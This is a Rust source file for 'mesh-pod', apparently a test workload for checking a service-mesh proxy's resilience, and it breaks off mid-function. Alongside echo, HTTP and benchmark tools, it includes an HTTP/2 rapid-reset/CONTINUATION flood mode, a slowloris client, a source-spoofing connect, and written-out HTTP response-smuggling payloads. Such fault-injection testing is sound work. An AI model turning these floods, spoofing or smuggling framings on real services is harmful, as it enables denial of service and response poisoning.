//! `mesh-pod`: the workload the local cluster runs inside its pods.
//!
//! `mesh-pod echo --listen [::]:8080` serves TCP echo, prints
//! `listening <addr>` once bound and `accepted <peer> on <local>` for each
//! connection (the server's view of who called). `mesh-pod connect --to
//! ADDR --count N` makes N connections, checks each echoes a message back,
//! and prints a JSON summary; it exits non-zero if any connection failed.
//! With `--hold` it makes one connection, prints `connected local=<addr>
//! peer=<addr>`, then does a round trip on it for every line read from
//! stdin (printing `ok` or `failed <why>`) until stdin closes.
//! `--mark` sets `SO_MARK` on the client socket first, `--local-port` binds
//! it, and `--reset` connects and closes with a reset at once. A held
//! connection prints `established local=<addr>` as soon as connect()
//! returns, before its first round trip.
//!
//! `mesh-pod serve-http --listen [::]:8080 --body TEXT` answers every
//! HTTP/1.1 request (keep-alive) with 200 and TEXT (or, on purpose, 503
//! for `--fail-percent` of them, or never for `/hang…` with `--hang`;
//! `GET /hits` counts the others, `GET /connections` the connections
//! accepted); `mesh-pod http --to ADDR --path /p
//! --count N [--method M] [--header 'k: v']` makes N requests, each on a
//! new connection (or all on one with `--keep-alive`), and prints a JSON
//! summary: statuses, the proxy's `x-mesh-flags`, bytes, and how often
//! each distinct body came back; it exits non-zero unless every answer
//! was 200.
//!
//! `mesh-pod h2-flood --to ADDR --attack rapid-reset|continuation|…` speaks
//! HTTP/2 (prior knowledge) abusively: it opens and at once cancels
//! stream after stream, or sends one header block as endless CONTINUATION
//! frames (and more, see `Attack`), until the peer closes; it prints the
//! GOAWAY code it got (null if none), the bytes it managed to send and the
//! responses it saw. Its streams are `GET /`, or with `--connect AUTHORITY`
//! `CONNECT`s, as HBONE tunnels are.
//!
//! `mesh-pod slow --to ADDR --request PREFIX` is a slow client: it sends
//! PREFIX and then `a`s, a byte every `--interval-ms`, and prints how long
//! the peer took to close the connection (null if it had not after
//! `--max-secs`) and the first line of any answer.
//!
//! For benchmarks: `bench-http --to ADDR --connections C --requests N`
//! times N keep-alive GETs over C connections (one thread each), or with
//! `--new-connections` each on a connection of its own, and prints
//! p50/p90/p99/p99.9 and requests per second; `sink --listen ADDR` reads each
//! connection to its end and answers with the byte count; `bulk --to ADDR
//! --bytes N` sends N bytes to a sink and prints the throughput.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream},
    process::ExitCode,
    thread,
    time::Duration,
};

use clap::{Parser, Subcommand, ValueEnum};

#[derive(Debug, Parser)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Serve TCP echo.
    Echo {
        #[arg(long, default_value = "[::]:8080")]
        listen: SocketAddr,
    },
    /// Serve HTTP/1.1: every request gets 200 with BODY.
    ServeHttp {
        #[arg(long, default_value = "[::]:8080")]
        listen: SocketAddr,
        #[arg(long, default_value = "hello from mesh-pod")]
        body: String,
        #[command(flatten)]
        faults: Faults,
    },
    /// Send METHOD PATH to TO, COUNT times.
    Http {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value = "/")]
        path: String,
        #[arg(long, default_value_t = 1)]
        count: u32,
        /// All requests on one connection.
        #[arg(long)]
        keep_alive: bool,
        #[arg(long, default_value = "GET")]
        method: String,
        /// An extra request header, `name: value` (repeatable).
        #[arg(long)]
        header: Vec<String>,
    },
    /// A GET on a new connection every EVERY_MS for FOR_MS; prints as
    /// JSON how many answered 200, each streak of failures (from its
    /// first failure to the next success, with what failed), the slowest
    /// request, and whether the last one succeeded. No request waits more
    /// than 6 s for its answer. Each streak is also announced as it ends,
    /// with a line `recovered from_ms=… to_ms=… failed=…`, so a caller can
    /// wait for the loop itself to get through again.
    HttpLoop {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long)]
        for_ms: u64,
        #[arg(long, default_value_t = 20)]
        every_ms: u64,
    },
    /// Time REQUESTS keep-alive GETs over CONNECTIONS connections.
    BenchHttp {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value_t = 1)]
        connections: usize,
        #[arg(long, default_value_t = 10000)]
        requests: usize,
        /// Each request on a connection of its own (timed from connect()
        /// to the end of the answer), not keep-alive.
        #[arg(long)]
        new_connections: bool,
    },
    /// Send REQUEST (with `\r`, `\n` and `\t` escapes) as it is, then
    /// print the first line of the answer as JSON (`status_line`, empty when
    /// the connection closed without one).
    Raw {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long)]
        request: String,
        /// Send REQUEST inside an HTTP/2 `CONNECT` stream to this
        /// authority, as a source proxy sends it in an HBONE tunnel (TO is
        /// then a relay that does the TLS); also prints whether the tunnel
        /// opened (`tunnel`) and all that came back in it (`answer`).
        #[arg(long)]
        connect: Option<String>,
    },
    /// Ask to switch the connection to PROTOCOL (as a WebSocket client
    /// does), then send MESSAGE on the switched connection; prints the
    /// answer's first line and what came back as JSON (`status_line`,
    /// `echoed`). `serve-http` echoes on a switched connection.
    Upgrade {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value = "ping")]
        message: String,
        #[arg(long, default_value = "websocket")]
        protocol: String,
        /// Keep the switched connection and round-trip on it per stdin
        /// line, printing `ok` or `failed ...`.
        #[arg(long)]
        hold: bool,
    },
    /// Abuse an HTTP/2 connection until the peer hangs up.
    H2Flood {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long)]
        attack: Attack,
        /// Give up (the peer never closed) after this many bytes.
        #[arg(long, default_value_t = 64 << 20)]
        max_bytes: u64,
        /// Each stream a `CONNECT` to this authority (as HBONE tunnels
        /// are), not a `GET /`.
        #[arg(long)]
        connect: Option<String>,
    },
    /// Trickle a request that never ends, a byte at a time (or, with an
    /// interval of 0, connect and send nothing).
    Slow {
        #[arg(long)]
        to: SocketAddr,
        /// Sent first (with `\r` and `\n` escapes), a byte at a time.
        #[arg(long, default_value = "")]
        request: String,
        #[arg(long, default_value_t = 200)]
        interval_ms: u64,
        #[arg(long, default_value_t = 30)]
        max_secs: u64,
        /// Send nothing after REQUEST (and keep the connection open).
        #[arg(long)]
        stall: bool,
    },
    /// Read every connection to its end; answer with the byte count.
    Sink {
        #[arg(long, default_value = "[::]:9000")]
        listen: SocketAddr,
    },
    /// Send BYTES to a sink; print the throughput.
    Bulk {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value_t = 1 << 30)]
        bytes: u64,
    },
    /// Time COUNT connect() calls (after a warm-up), closing each with a
    /// reset; prints percentiles in microseconds as JSON.
    BenchConnect {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value_t = 5000)]
        count: usize,
    },
    /// Open COUNT connections to an echo server and round-trip a line on
    /// each, then hold them all; prints `{"held": N}` (as JSON) once they
    /// are open, round-trips on every one again per stdin line (printing
    /// `{"alive": N}`), and closes them when stdin ends.
    HoldMany {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value_t = 1000)]
        count: u32,
        /// Send nothing, ever (a slowloris on whatever the peer waits
        /// for first); per stdin line, count the connections the peer has
        /// not closed.
        #[arg(long)]
        silent: bool,
    },
    /// Connect COUNT times, one connection after another.
    Connect {
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value_t = 1)]
        count: u32,
        /// Keep one connection and round-trip on it per stdin line.
        #[arg(long)]
        hold: bool,
        /// `SO_MARK` for the client socket (e.g. 0x539, the proxy's).
        #[arg(long, value_parser = parse_mark)]
        mark: Option<u32>,
        /// Bind the client socket to this local port first.
        #[arg(long)]
        local_port: Option<u16>,
        /// Connect, then close at once with a reset: no round trip.
        #[arg(long, conflicts_with = "hold")]
        reset: bool,
    },
    /// Send a SYN to TO from FROM, an address this host does not own
    /// (`IP_TRANSPARENT`, `IPV6_FREEBIND`), as a spoofing host would; wait
    /// WAIT_MS for the handshake. Prints `{"connected": bool, "error":
    /// ...}` as JSON.
    Spoof {
        #[arg(long)]
        from: std::net::IpAddr,
        #[arg(long)]
        to: SocketAddr,
        #[arg(long, default_value_t = 1500)]
        wait_ms: u64,
    },
}

fn main() -> ExitCode {
    match Cli::parse().command {
        Command::Echo { listen } => match echo(listen) {
            Ok(()) => ExitCode::SUCCESS,
            Err(error) => {
                eprintln!("mesh-pod echo: {error}");
                ExitCode::FAILURE
            }
        },
        Command::ServeHttp {
            listen,
            body,
            faults,
        } => match serve_http(listen, body, faults) {
            Ok(()) => ExitCode::SUCCESS,
            Err(error) => {
                eprintln!("mesh-pod serve-http: {error}");
                ExitCode::FAILURE
            }
        },
        Command::Http {
            to,
            path,
            count,
            keep_alive,
            method,
            header,
        } => http_get(to, &format!("{method} {path}"), &header, count, keep_alive),
        Command::HttpLoop {
            to,
            for_ms,
            every_ms,
        } => report("http-loop", http_loop(to, for_ms, every_ms)),
        Command::BenchHttp {
            to,
            connections,
            requests,
            new_connections,
        } => report(
            "bench-http",
            bench_http(to, connections, requests, new_connections),
        ),
        Command::Sink { listen } => report("sink", sink(listen)),
        Command::Raw {
            to,
            request,
            connect,
        } => report("raw", raw(to, &request, connect.as_deref())),
        Command::HoldMany { to, count, silent } => {
            report("hold-many", hold_many(to, count, silent))
        }
        Command::Upgrade {
            to,
            message,
            protocol,
            hold,
        } => report("upgrade", upgrade(to, &message, &protocol, hold)),
        Command::Slow {
            to,
            request,
            interval_ms,
            max_secs,
            stall,
        } => report(
            "slow",
            slow(
                to,
                &request,
                Duration::from_millis(interval_ms),
                Duration::from_secs(max_secs),
                stall,
            ),
        ),
        Command::H2Flood {
            to,
            attack,
            max_bytes,
            connect,
        } => report(
            "h2-flood",
            h2_flood(to, attack, max_bytes, connect.as_deref()),
        ),
        Command::Bulk { to, bytes } => report("bulk", bulk(to, bytes)),
        Command::BenchConnect { to, count } => match bench_connect(to, count) {
            Ok(()) => ExitCode::SUCCESS,
            Err(error) => {
                eprintln!("mesh-pod bench-connect: {error}");
                ExitCode::FAILURE
            }
        },
        Command::Connect {
            to,
            count,
            hold: held,
            mark,
            local_port,
            reset,
        } => {
            let client = Client { mark, local_port };
            if held {
                hold(to, client)
            } else if reset {
                connect_and_reset(to, client)
            } else {
                connect(to, count, client)
            }
        }
        Command::Spoof { from, to, wait_ms } => {
            let outcome = spoofed_connect(from, to, Duration::from_millis(wait_ms));
            println!(
                "{}",
                serde_json::json!({
                    "connected": outcome.is_ok(),
                    "error": outcome.err().map(|e| e.to_string()),
                })
            );
            ExitCode::SUCCESS
        }
    }
}

fn spoofed_connect(from: std::net::IpAddr, to: SocketAddr, wait: Duration) -> io::Result<()> {
    let socket = socket2::Socket::new(
        socket2::Domain::for_address(to),
        socket2::Type::STREAM,
        Some(socket2::Protocol::TCP),
    )?;
    if from.is_ipv4() {
        // IPv4 routes a foreign source only for a transparent socket.
        socket.set_ip_transparent_v4(true)?;
    } else {
        socket.set_freebind_v6(true)?;
    }
    socket.bind(&SocketAddr::new(from, 0).into())?;
    socket.connect_timeout(&to.into(), wait)
}

fn bench_connect(to: SocketAddr, count: usize) -> io::Result<()> {
    let once = || -> io::Result<Duration> {
        let started = std::time::Instant::now();
        let stream = TcpStream::connect(to)?;
        let elapsed = started.elapsed();
        // A reset, not a FIN: thousands of connections leave no TIME_WAIT.
        socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
        Ok(elapsed)
    };
    for _ in 0..count / 10 {
        once()?;
    }
    let mut samples = (0..count).map(|_| once()).collect::<io::Result<Vec<_>>>()?;
    samples.sort();
    let micros = |q: f64| {
        let index = ((samples.len() as f64 * q) as usize).min(samples.len() - 1);
        samples[index].as_secs_f64() * 1e6
    };
    let mean = samples.iter().map(Duration::as_secs_f64).sum::<f64>() / samples.len() as f64 * 1e6;
    println!(
        "{}",
        serde_json::json!({
            "to": to.to_string(),
            "count": count,
            "p50_us": micros(0.50),
            "p90_us": micros(0.90),
            "p99_us": micros(0.99),
            "mean_us": mean,
        })
    );
    Ok(())
}

fn parse_mark(value: &str) -> Result<u32, String> {
    let parsed = match value.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16),
        None => value.parse(),
    };
    parsed.map_err(|e| format!("{value:?}: {e}"))
}

/// How the client socket is set up.
#[derive(Clone, Copy, Debug)]
struct Client {
    mark: Option<u32>,
    local_port: Option<u16>,
}

fn connect_and_reset(to: SocketAddr, client: Client) -> ExitCode {
    match open(to, client).and_then(|stream| {
        let local = stream.local_addr()?;
        socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
        Ok(local)
    }) {
        Ok(local) => {
            println!("reset local={local}");
            ExitCode::SUCCESS
        }
        Err(error) => {
            println!("failed {error}");
            ExitCode::FAILURE
        }
    }
}

fn hold(to: SocketAddr, client: Client) -> ExitCode {
    let mut stream = match open(to, client) {
        Ok(stream) => stream,
        Err(error) => {
            println!("failed {error}");
            return ExitCode::FAILURE;
        }
    };
    let describe = |r: io::Result<SocketAddr>| r.map_or_else(|e| e.to_string(), |a| a.to_string());
    println!("established local={}", describe(stream.local_addr()));
    let _ = io::stdout().flush();
    if let Err(error) = exchange(&mut stream, 0) {
        println!("failed {error}");
        return ExitCode::FAILURE;
    }
    println!(
        "connected local={} peer={}",
        describe(stream.local_addr()),
        describe(stream.peer_addr())
    );
    let _ = io::stdout().flush();
    let mut line = String::new();
    let mut round = 1;
    while io::stdin().read_line(&mut line).is_ok_and(|n| n > 0) {
        match exchange(&mut stream, round) {
            Ok(()) => println!("ok"),
            Err(error) => println!("failed {error}"),
        }
        let _ = io::stdout().flush();
        line.clear();
        round += 1;
    }
    ExitCode::SUCCESS
}

fn echo(listen: SocketAddr) -> io::Result<()> {
    raise_open_file_limit()?;
    let listener = TcpListener::bind(listen)?;
    println!("listening {}", listener.local_addr()?);
    io::stdout().flush()?;
    for stream in listener.incoming() {
        let stream = match stream {
            Ok(stream) => stream,
            // Out of descriptors, or a connection gone before it was
            // accepted: the next may do.
            Err(error) => {
                eprintln!("mesh-pod echo: accepting: {error}");
                thread::sleep(Duration::from_millis(10));
                continue;
            }
        };
        if let (Ok(peer), Ok(local)) = (stream.peer_addr(), stream.local_addr()) {
            // IPv4 through a dual-stack socket reads as IPv4.
            let canonical = |a: SocketAddr| SocketAddr::new(a.ip().to_canonical(), a.port());
            println!("accepted {} on {}", canonical(peer), canonical(local));
            io::stdout().flush()?;
        }
        thread::spawn(move || {
            let _ = serve(stream);
        });
    }
    Ok(())
}

fn serve(mut stream: TcpStream) -> io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(300)))?;
    let mut buf = [0u8; 16 * 1024];
    loop {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            return Ok(());
        }
        stream.write_all(&buf[..n])?;
    }
}

fn connect(to: SocketAddr, count: u32, client: Client) -> ExitCode {
    let mut failures = Vec::new();
    for attempt in 0..count {
        if let Err(error) = round_trip(to, attempt, client) {
            failures.push(format!("connection {attempt}: {error}"));
        }
    }
    let summary = serde_json::json!({
        "to": to.to_string(),
        "attempted": count,
        "ok": count as usize - failures.len(),
        "failures": failures,
    });
    println!("{summary}");
    if failures.is_empty() {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

fn round_trip(to: SocketAddr, attempt: u32, client: Client) -> io::Result<()> {
    let mut stream = open(to, client)?;
    exchange(&mut stream, attempt)
}

const TIMEOUT: Duration = Duration::from_secs(5);

impl Client {
    /// No mark, any local port.
    const PLAIN: Client = Client {
        mark: None,
        local_port: None,
    };
}

fn open(to: SocketAddr, client: Client) -> io::Result<TcpStream> {
    let socket = socket2::Socket::new(
        socket2::Domain::for_address(to),
        socket2::Type::STREAM,
        Some(socket2::Protocol::TCP),
    )?;
    if let Some(mark) = client.mark {
        socket.set_mark(mark)?;
    }
    if let Some(port) = client.local_port {
        socket.set_reuse_address(true)?;
        let any: std::net::IpAddr = if to.is_ipv4() {
            std::net::Ipv4Addr::UNSPECIFIED.into()
        } else {
            std::net::Ipv6Addr::UNSPECIFIED.into()
        };
        socket.bind(&SocketAddr::new(any, port).into())?;
    }
    socket.connect_timeout(&to.into(), TIMEOUT)?;
    let stream = TcpStream::from(socket);
    stream.set_read_timeout(Some(TIMEOUT))?;
    Ok(stream)
}

fn exchange(stream: &mut TcpStream, attempt: u32) -> io::Result<()> {
    let message = format!("mesh-pod {attempt}\n");
    stream.write_all(message.as_bytes())?;
    let mut echoed = vec![0u8; message.len()];
    stream.read_exact(&mut echoed)?;
    if echoed != message.as_bytes() {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "the echo differs from what was sent",
        ));
    }
    Ok(())
}

/// What `serve-http` does wrong on purpose, for the tests of callers'
/// retries, timeouts and circuit breaking. `GET /hits` always answers the
/// number of other requests received so far; `GET /headers` answers the
/// request's header fields as they arrived.
#[derive(clap::Args, Clone, Copy, Debug, Default)]
struct Faults {
    /// Answer this share (percent) of requests 503, spread evenly.
    #[arg(long, default_value_t = 0)]
    fail_percent: u64,
    /// Never answer requests whose path starts with `/hang`.
    #[arg(long)]
    hang: bool,
    /// Wait this long before answering each request.
    #[arg(long, default_value_t = 0)]
    delay_ms: u64,
    /// Answer `/break/close` with 10 of the 1,000 bytes its
    /// `content-length` promises, `/break/chunked-close` with one chunk of
    /// a chunked body, each then closing the connection, and
    /// `/break/chunked-stall` with one chunk and then nothing, ever. Answer
    /// `/smuggle/CASE` with the response of [`smuggling_answer`], which
    /// tries to slip an unrequested response (body `poisoned`) in front
    /// of the next request on the connection, and keep serving.
    #[arg(long)]
    bad_responses: bool,
}

/// What `serve-http --bad-responses` answers `/smuggle/CASE` with: each a
/// framing a proxy must refuse or read exactly, none of which may ever
/// get `poisoned` to a caller as a response of its own.
fn smuggling_answer(case: &str) -> Option<&'static str> {
    Some(match case {
        // A complete response, and a second nobody asked for.
        "extra" => concat!(
            "HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // Chunked and a length: read as chunked, the rest is a second
        // response; read by the length, it is part of the body.
        "cl-te" => concat!(
            "HTTP/1.1 200 OK\r\ncontent-length: 50\r\ntransfer-encoding: chunked\r\n\r\n",
            "2\r\nok\r\n0\r\n\r\n",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // Two lengths that disagree.
        "two-lengths" => concat!(
            "HTTP/1.1 200 OK\r\ncontent-length: 2\r\ncontent-length: 48\r\n\r\nok",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // `chunked` not last: the length of the body is unknowable.
        "te-not-chunked" => concat!(
            "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked, identity\r\n\r\n",
            "2\r\nok\r\n0\r\n\r\n",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // A chunk size that is not hex.
        "bad-chunk" => concat!(
            "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nzz\r\nok\r\n0\r\n\r\n",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // A header folded onto a second line (obs-fold) that hides a
        // length.
        "obs-fold" => concat!(
            "HTTP/1.1 200 OK\r\nx-folded: a\r\n content-length: 0\r\ncontent-length: 2\r\n\r\nok",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // Bare LF line ends.
        "bare-lf" => concat!(
            "HTTP/1.1 200 OK\ncontent-length: 2\n\nok",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        // No blank line or length: a body that ends when the connection
        // does, which here it never does.
        "no-length" => concat!(
            "HTTP/1.1 200 OK\r\n\r\nok",
            "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\npoisoned"
        ),
        _ => return None,
    })
}

fn serve_http(listen: SocketAddr, body: String, faults: Faults) -> io::Result<()> {
    let listener = TcpListener::bind(listen)?;
    println!("listening {}", listener.local_addr()?);
    io::stdout().flush()?;
    let body: std::sync::Arc<str> = body.into();
    let counters = std::sync::Arc::new(Counters::default());
    for stream in listener.incoming() {
        let stream = stream?;
        counters
            .connections
            .fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let body = body.clone();
        let counters = counters.clone();
        thread::spawn(move || {
            let _ = answer_http(stream, &body, faults, &counters);
        });
    }
    Ok(())
}

/// What `serve-http` has seen: requests answered with the body (read
/// with `GET /hits`), and connections accepted (`GET /connections`).
#[derive(Default)]
struct Counters {
    hits: std::sync::atomic::AtomicU64,
    connections: std::sync::atomic::AtomicU64,
}

/// Answers requests on one connection until the client closes it.
fn answer_http(
    stream: TcpStream,
    body: &str,
    faults: Faults,
    counters: &Counters,
) -> io::Result<()> {
    use std::sync::atomic::Ordering::SeqCst;
    let hits = &counters.hits;
    stream.set_nodelay(true)?;
    let mut reader = io::BufReader::new(stream.try_clone()?);
    let mut writer = stream;
    loop {
        let Some(head) = read_head(&mut reader)? else {
            return Ok(());
        };
        if chunked(&head) {
            skip_chunks(&mut reader)?;
        } else {
            let length = content_length(&head);
            io::copy(&mut (&mut reader).take(length), &mut io::sink())?;
        }
        let asked = head.lines().find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("upgrade")
                .then(|| value.trim().to_owned())
        });
        if let Some(protocol) = asked {
            // Switched: echo until the client closes.
            writer.write_all(
                format!(
                    "HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: {protocol}\r\n\r\n"
                )
                .as_bytes(),
            )?;
            io::copy(&mut reader, &mut writer)?;
            return Ok(());
        }
        let target = head.split(' ').nth(1).unwrap_or("/");
        if faults.bad_responses
            && let Some(answer) = target.strip_prefix("/smuggle/").and_then(smuggling_answer)
        {
            writer.write_all(answer.as_bytes())?;
            continue;
        }
        if faults.bad_responses && target.starts_with("/break/") {
            if target == "/break/close" {
                writer.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n0123456789")?;
                return Ok(());
            }
            writer.write_all(
                b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\na\r\n0123456789\r\n",
            )?;
            if target == "/break/chunked-stall" {
                // Read on until the caller gives up and closes.
                io::copy(&mut reader, &mut io::sink())?;
            }
            return Ok(());
        }
        let (status, text) = if head.starts_with("GET /hits ") {
            ("200 OK", hits.load(SeqCst).to_string())
        } else if head.starts_with("GET /connections ") {
            ("200 OK", counters.connections.load(SeqCst).to_string())
        } else if target.starts_with("/headers") {
            // The request head as it arrived, less the request line.
            let fields = head.split_once('\n').map_or("", |(_, rest)| rest);
            ("200 OK", fields.replace("\r\n", "\n"))
        } else {
            let n = hits.fetch_add(1, SeqCst);
            if faults.hang && target.starts_with("/hang") {
                // Read on until the caller gives up and closes.
                io::copy(&mut reader, &mut io::sink())?;
                return Ok(());
            }
            // Request n fails when the running share of failures would
            // fall below the percentage: 60 % fails 3 of every 5.
            let failing = (n + 1) * faults.fail_percent / 100 > n * faults.fail_percent / 100;
            if failing {
                ("503 Service Unavailable", "failing on purpose".to_owned())
            } else {
                ("200 OK", body.to_owned())
            }
        };
        if faults.delay_ms > 0 {
            thread::sleep(Duration::from_millis(faults.delay_ms));
        }
        // One write per answer: a message split over several segments
        // would time the segments, not the path.
        let answer = format!(
            "HTTP/1.1 {status}\r\ncontent-type: text/plain\r\ncontent-length: {}\r\n\r\n{text}",
            text.len()
        );
        writer.write_all(answer.as_bytes())?;
    }
}

/// Opens `count` connections to `to` and holds them (see `HoldMany`).
fn hold_many(to: SocketAddr, count: u32, silent: bool) -> io::Result<()> {
    raise_open_file_limit()?;
    // `None`: connected, and reset by the peer before `open` returned (a
    // silent connection the peer refuses at once can be).
    let mut held = Vec::with_capacity(count as usize);
    for attempt in 0..count {
        let mut stream = match open(to, Client::PLAIN) {
            Ok(stream) => stream,
            Err(error) if silent && error.kind() == io::ErrorKind::ConnectionReset => {
                held.push(None);
                continue;
            }
            Err(error) => return Err(error),
        };
        if silent {
            stream.set_nonblocking(true)?;
        } else {
            exchange(&mut stream, attempt)?;
        }
        held.push(Some(stream));
    }
    println!("{}", serde_json::json!({ "held": held.len() }));
    io::stdout().flush()?;
    // Until stdin ends (the caller is done measuring).
    for line in io::stdin().lines() {
        line?;
        let mut alive = 0;
        for (attempt, stream) in (0..count).zip(held.iter_mut()) {
            let Some(stream) = stream else { continue };
            let open = if silent {
                // Open unless the peer has ended (a read of 0) or reset it.
                match stream.peek(&mut [0; 1]) {
                    Ok(read) => read > 0,
                    Err(error) => error.kind() == io::ErrorKind::WouldBlock,
                }
            } else {
                exchange(stream, attempt).is_ok()
            };
            if open {
                alive += 1;
            }
        }
        println!("{}", serde_json::json!({ "alive": alive }));
        io::stdout().flush()?;
    }
    Ok(())
}

/// Lets this process hold as many descriptors as its hard limit allows
/// (the usual soft limit, 1024, is too few for `hold-many`).
fn raise_open_file_limit() -> io::Result<()> {
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit and setrlimit only read and write `limit`.
    #[allow(unsafe_code)]
    let raised = unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit) == 0 && {
            limit.rlim_cur = limit.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &limit) == 0
        }
    };
    if raised {
        Ok(())
    } else {
        Err(io::Error::last_os_error())
    }
}

/// Sends `request` (escapes decoded) and prints the answer's first line.
fn raw(to: SocketAddr, request: &str, connect: Option<&str>) -> io::Result<()> {
    let bytes = request
        .replace("\\r", "\r")
        .replace("\\n", "\n")
        .replace("\\t", "\t");
    if let Some(authority) = connect {
        let (tunnel, answer) = raw_in_tunnel(to, authority, bytes.as_bytes())?;
        let line = answer.lines().next().unwrap_or("");
        println!(
            "{}",
            serde_json::json!({
                "tunnel": tunnel,
                "status_line": line.trim_end(),
                "answer": answer,
            })
        );
        return Ok(());
    }
    let mut stream = open(to, Client::PLAIN)?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.write_all(bytes.as_bytes())?;
    let mut reader = io::BufReader::new(stream);
    let mut line = String::new();
    // A reset is an answer too: the request went nowhere.
    let _ = io::BufRead::read_line(&mut reader, &mut line);
    println!("{}", serde_json::json!({ "status_line": line.trim_end() }));
    Ok(())
}

/// Opens a `CONNECT` stream to `authority` over HTTP/2 at `to` and sends
/// `bytes` in it; whether the tunnel opened (`:status` 200), and what came
/// back in it until the stream ended or a second passed without more.
fn raw_in_tunnel(to: SocketAddr, authority: &str, bytes: &[u8]) -> io::Result<(bool, String)> {
    // HPACK: `:status 200` is static-table entry 8, indexed.
    const STATUS_200: u8 = 0x88;
    let mut stream = open(to, Client::PLAIN)?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(h2_frame(SETTINGS, 0, 0, &[]));
    out.extend(h2_frame(
        HEADERS,
        END_HEADERS,
        1,
        &h2_request(Some(authority)),
    ));
    // Within the default frame size and stream window.
    for chunk in bytes.chunks(16 << 10) {
        out.extend(h2_frame(DATA, 0, 1, chunk));
    }
    stream.write_all(&out)?;
    let (mut tunnel, mut answer) = (false, Vec::new());
    let mut head = [0u8; 9];
    loop {
        match stream.read_exact(&mut head) {
            Ok(()) => {}
            Err(error)
                if matches!(
                    error.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                ) && !answer.is_empty() =>
            {
                break;
            }
            Err(error) if error.kind() == io::ErrorKind::UnexpectedEof => break,
            Err(error) => return Err(error),
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let (kind, flags) = (head[3], head[4]);
        let id = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        let mut payload = vec![0; length];
        stream.read_exact(&mut payload)?;
        match kind {
            SETTINGS if flags & 0x1 == 0 => stream.write_all(&h2_frame(SETTINGS, 0x1, 0, &[]))?,
            HEADERS if id == 1 => tunnel = payload.first() == Some(&STATUS_200),
            DATA if id == 1 => {
                answer.extend_from_slice(&payload);
                // Once something came, a second of quiet ends the wait.
                stream.set_read_timeout(Some(Duration::from_secs(1)))?;
            }
            RST_STREAM | GOAWAY => break,
            _ => {}
        }
        if id == 1 && flags & END_STREAM != 0 && matches!(kind, DATA | HEADERS) {
            break;
        }
    }
    Ok((tunnel, String::from_utf8_lossy(&answer).into_owned()))
}

fn upgrade(to: SocketAddr, message: &str, protocol: &str, hold: bool) -> io::Result<()> {
    let mut stream = open(to, Client::PLAIN)?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.write_all(
        format!(
            "GET /chat HTTP/1.1\r\nhost: {to}\r\nconnection: upgrade\r\nupgrade: {protocol}\r\n\r\n"
        )
        .as_bytes(),
    )?;
    let mut reader = io::BufReader::new(stream.try_clone()?);
    let head = read_head(&mut reader)?.unwrap_or_default();
    let status_line = head.lines().next().unwrap_or("").to_owned();
    let switched = status_line.starts_with("HTTP/1.1 101 ");
    let mut round_trip = |message: &str| -> io::Result<String> {
        stream.write_all(format!("{message}\n").as_bytes())?;
        let mut echoed = String::new();
        if io::BufRead::read_line(&mut reader, &mut echoed)? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        Ok(echoed.trim_end().to_owned())
    };
    let echoed = if switched {
        round_trip(message)?
    } else {
        String::new()
    };
    println!(
        "{}",
        serde_json::json!({ "status_line": status_line, "echoed": echoed })
    );
    io::stdout().flush()?;
    if !(hold && switched) {
        return Ok(());
    }
    let mut line = String::new();
    while io::stdin().read_line(&mut line).is_ok_and(|n| n > 0) {
        match round_trip(line.trim_end()) {
            Ok(echoed) if echoed == line.trim_end() => println!("ok"),
            Ok(other) => println!("failed: {other:?} came back"),
            Err(error) => println!("failed {error}"),
        }
        io::stdout().flush()?;
